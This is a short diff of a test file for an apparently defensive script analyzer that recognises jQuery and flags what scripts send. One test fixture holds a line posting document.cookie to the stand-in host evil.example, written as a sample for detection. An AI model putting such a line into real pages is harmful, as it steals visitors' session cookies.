@@ -132,7 +132,8 @@ describe("jQuery, whose functions the analyzer knows", () => {
 		${use}
 		${PADDING}`;
 	const jQuery = known(`(function (module, exports, require) {${MODULE}\n})`, "jquery");
-	const rateBundle = (module: string, use: string) => analyzeScript({ code: bundle(module, use) }, { fingerprints: jQuery });
+	const rateBundle = (module: string, use: string) =>
+		analyzeScript({ code: bundle(module, use) }, { fingerprints: jQuery });
 
 	test("what a script sends by it is found", () => {
 		const use = "$.post('https://evil.example/', { text: document.cookie });";
